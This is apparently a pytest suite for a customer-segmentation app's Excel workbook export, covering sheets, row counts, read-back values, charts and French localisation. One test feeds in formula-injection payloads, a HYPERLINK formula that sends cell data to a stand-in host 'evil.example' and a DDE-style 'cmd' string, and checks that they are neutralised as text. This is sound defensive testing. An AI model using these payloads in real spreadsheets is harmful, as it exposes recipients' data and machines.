"""The segmented workbook: sheets, row counts, values read back by openpyxl and calamine."""

from __future__ import annotations

import datetime as dt
import re
import zipfile

import openpyxl
import pandas as pd
import pytest
from export_fixtures import SEGMENTS, make_analysis
from python_calamine import CalamineWorkbook

from segmenter_app.core import schema as s
from segmenter_app.core.export import write_workbook


def ooxml_unescape(text: str) -> str:
    """Decode the ``_xHHHH_`` escapes of OOXML strings (ECMA-376 22.9.2.19)."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), text)


def sheet_xml(path) -> dict[str, str]:
    """Every worksheet's XML text, by part name."""
    with zipfile.ZipFile(path) as zf:
        return {n: zf.read(n).decode("utf-8") for n in zf.namelist() if n.startswith("xl/worksheets/sheet")}


def test_sheets_and_row_counts_hold_every_customer_once(tmp_path):
    analysis = make_analysis(60)
    out = tmp_path / "segments.xlsx"
    stats = write_workbook(analysis, out)
    names = [name for _, name in SEGMENTS]
    assert stats["sheets"][0] == "Summary"
    offset = 2 if stats["sheets"][1] == "Action plan" else 1
    assert stats["sheets"][offset : offset + len(names)] == names
    assert "All customers" in stats["sheets"]
    assert stats["rows"]["All customers"] == 60
    assert [stats["rows"][n] for n in names] == [15, 15, 15, 15, 0]

    wb = openpyxl.load_workbook(out, read_only=False)
    assert wb.sheetnames == stats["sheets"]
    seen: list[str] = []
    for name in names:
        ws = wb[name]
        rows = list(ws.iter_rows(min_row=2, values_only=True))
        seen += [r[0] for r in rows if r[0] is not None]
    assert sorted(seen) == sorted(analysis.customers.index)  # every customer exactly once
    assert len(seen) == len(set(seen))
    # Segment sheets are Excel tables with a frozen header row.
    ws = wb["Champions"]
    assert len(ws.tables) == 1
    table = next(iter(ws.tables.values()))
    assert table.ref == "A1:" + re.sub(r"\d+$", "", table.ref.split(":")[1]) + "16"
    assert ws.freeze_panes == "B2"


def test_values_read_back_the_same_with_openpyxl_and_calamine(tmp_path):
    analysis = make_analysis(40, hostile=True)
    out = tmp_path / "segments.xlsx"
    write_workbook(analysis, out)
    wb = openpyxl.load_workbook(out)
    cal = CalamineWorkbook.from_path(str(out))
    assert cal.sheet_names == wb.sheetnames
    for name in wb.sheetnames:
        via_openpyxl = [list(r) for r in wb[name].iter_rows(values_only=True)]
        via_calamine = cal.get_sheet_by_name(name).to_python(skip_empty_area=False)
        width = max((len(r) for r in via_openpyxl), default=0)
        for row_a, row_b in zip(via_openpyxl, via_calamine, strict=False):
            row_b = list(row_b) + [""] * (width - len(row_b))
            for a, b in zip(row_a, row_b, strict=False):
                if a is None:
                    assert b == "", (name, row_a, row_b)
                elif isinstance(a, dt.datetime):
                    assert b in (a, a.date()), (name, a, b)
                elif isinstance(a, float):
                    assert b == pytest.approx(a), (name, a, b)
                elif isinstance(a, str):
                    # openpyxl does not decode the OOXML "_xHHHH_" escapes (Excel, LibreOffice
                    # and calamine do): decode as the standard says before comparing.
                    assert ooxml_unescape(a) == b, (name, a, b)
                else:
                    assert a == b, (name, a, b)

    # The values are the customers' own: dates are real dates, figures are numbers.
    ws = wb["All customers"]
    header = [c.value for c in ws[1]]
    first = dict(zip(header, [c.value for c in ws[2]], strict=True))
    cid = first["Customer"]
    row = analysis.customers.loc[cid]
    assert first["Net spend"] == pytest.approx(row[s.C_MONETARY])
    assert first["Last purchase"] == row[s.C_LAST].to_pydatetime()
    assert isinstance(first["Orders"], int) and first["Orders"] == row[s.C_FREQUENCY]
    assert ws.cell(2, header.index("Last purchase") + 1).number_format == "yyyy-mm-dd"
    assert first["Segment"] == "Champions"


def test_hostile_text_never_becomes_a_formula(tmp_path):
    analysis = make_analysis(40, hostile=True)
    out = tmp_path / "hostile.xlsx"
    stats = write_workbook(analysis, out)
    for part, xml in sheet_xml(out).items():
        assert "<f>" not in xml and "<f " not in xml, part
    # The hostile texts are there, as text, unchanged (except forbidden characters and the cut).
    wb = openpyxl.load_workbook(out)
    values = {
        ooxml_unescape(c.value)
        for ws in wb
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str)
    }
    for text in ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+33 6 12 34 56 78", "@SUM(1)", "-2+3"):
        assert text in values
    assert "\uff1dcmd|' /C calc'!A0" in values
    assert "\tTabbed" in values and "\nCarriage" in values  # CR becomes Excel's line break
    assert "bellandnulescape" in values  # control characters removed...
    assert stats["removed_characters"] >= 3  # ...and counted
    assert "_x0041_ literal escape" in values  # not decoded into "A"
    assert "x" * 32_767 in values and "x" * 32_768 not in {v[:32_768] for v in values if len(v) > 32_767}
    assert any(c["length"] == 40_000 for c in stats["cut_cells"])
    # Each risky text carries the quote prefix style, so editing it in Excel keeps it text.
    ws = wb["All customers"]
    risky = [
        c
        for row in ws.iter_rows(min_row=2)
        for c in row
        if isinstance(c.value, str) and c.value[:1] in "=+-@\uff1d"
    ]
    assert risky and all(c.quotePrefix for c in risky)
    assert stats["neutralized_cells"] >= len(risky)
    # Sheet names cleaned: no []:*?/\ and at most 31 characters, unique.
    for name in stats["sheets"]:
        assert not re.search(r"[\[\]:*?/\\]", name) and len(name) <= 31
    assert len({n.lower() for n in stats["sheets"]}) == len(stats["sheets"])


def test_french_workbook_has_french_sheet_names_and_headers(tmp_path):
    analysis = make_analysis(20, lang="fr")
    out = tmp_path / "segments.xlsx"
    stats = write_workbook(analysis, out)
    assert stats["sheets"][0] == "Synthèse"
    assert "Tous les clients" in stats["sheets"]
    wb = openpyxl.load_workbook(out)
    header = [c.value for c in wb["Tous les clients"][1]]
    assert header[:2] == ["Client", "Prénom"]
    assert "Dépense nette" in header and "Pourquoi dans ce segment" in header


def test_long_table_continues_on_a_second_sheet(tmp_path):
    analysis = make_analysis(50)
    out = tmp_path / "long.xlsx"
    stats = write_workbook(analysis, out, max_rows=21)  # 20 data rows per sheet at most
    assert stats["rows"]["All customers"] == 20
    assert stats["rows"]["All customers (2)"] == 20
    assert stats["rows"]["All customers (3)"] == 10
    wb = openpyxl.load_workbook(out)
    ids = []
    for name in ("All customers", "All customers (2)", "All customers (3)"):
        ws = wb[name]
        assert ws.max_row <= 21
        assert ws.cell(1, 1).value == "Customer"  # the header is repeated
        ids += [r[0] for r in ws.iter_rows(min_row=2, values_only=True)]
    assert sorted(ids) == sorted(analysis.customers.index)


def test_summary_has_figures_and_native_charts(tmp_path):
    analysis = make_analysis(60)
    out = tmp_path / "segments.xlsx"
    write_workbook(analysis, out)
    with zipfile.ZipFile(out) as zf:
        charts = [n for n in zf.namelist() if n.startswith("xl/charts/chart")]
    assert len(charts) == 2
    wb = openpyxl.load_workbook(out)
    ws = wb["Summary"]
    rows = list(ws.iter_rows(values_only=True))
    header_index = next(i for i, r in enumerate(rows) if r[0] == "Segment")
    header = rows[header_index]
    body = rows[header_index + 1 : header_index + 1 + len(SEGMENTS)]
    assert [r[0] for r in body] == [name for _, name in SEGMENTS]
    customers = {r[0]: r[header.index("Customers")] for r in body}
    assert customers == {"Champions": 15, "Loyal": 15, "At risk": 15, "Hibernating": 15, "Nobody here": 0}
    revenue = analysis.customers.groupby(analysis.segmentation.assignments[s.A_SEGMENT])[s.C_MONETARY].sum()
    assert body[0][header.index("Revenue")] == pytest.approx(revenue["rfm:champions"])
    total = rows[header_index + 1 + len(SEGMENTS)]
    assert total[0] == "Total" and total[header.index("Customers")] == 60
    assert ws.page_setup.orientation == "landscape"
    assert ws.print_title_rows is not None


def test_no_segmentation_is_a_user_error(tmp_path):
    from segmenter_app.core.i18n import UserError

    analysis = make_analysis(5)
    analysis.segmentation = None
    with pytest.raises(UserError):
        write_workbook(analysis, tmp_path / "x.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_summary_uses_the_shared_segment_summary(tmp_path):
    from segmenter_app.core.summary import segment_summary

    analysis = make_analysis(30)
    table = segment_summary(analysis)
    out = tmp_path / "s.xlsx"
    write_workbook(analysis, out)
    df = pd.read_excel(out, sheet_name="Summary", header=3, engine="calamine").head(len(table))
    assert df["Share of customers"].round(6).tolist() == table["share"].round(6).tolist()


def test_lifetime_value_column_only_when_predicted(tmp_path):
    analysis = make_analysis(8)
    out = tmp_path / "w.xlsx"
    write_workbook(analysis, out)
    assert "Predicted lifetime value" not in [c.value for c in openpyxl.load_workbook(out)["Summary"][4]]
    analysis.segmentation.assignments["clv"] = [100.0 + i for i in range(8)]
    write_workbook(analysis, out)
    wb = openpyxl.load_workbook(out)
    header = [c.value for c in wb["Summary"][4]]
    assert header[-1] == "Predicted lifetime value"
    champions = [c.value for c in wb["Summary"][5]]
    assert champions[0] == "Champions" and champions[-1] == pytest.approx((100.0 + 104.0) / 2)
    assert "Predicted lifetime value" in [c.value for c in wb["All customers"][1]]


def test_empty_segmentation_still_writes_a_valid_workbook(tmp_path):
    analysis = make_analysis(8)
    analysis.segmentation.assignments = analysis.segmentation.assignments.iloc[0:0]
    analysis.excluded = None
    analysis.plans = {}
    stats = write_workbook(analysis, tmp_path / "w.xlsx")
    assert stats["rows"]["All customers"] == 0 and stats["rows"]["Excluded rows"] == 0
    assert openpyxl.load_workbook(tmp_path / "w.xlsx").sheetnames == stats["sheets"]
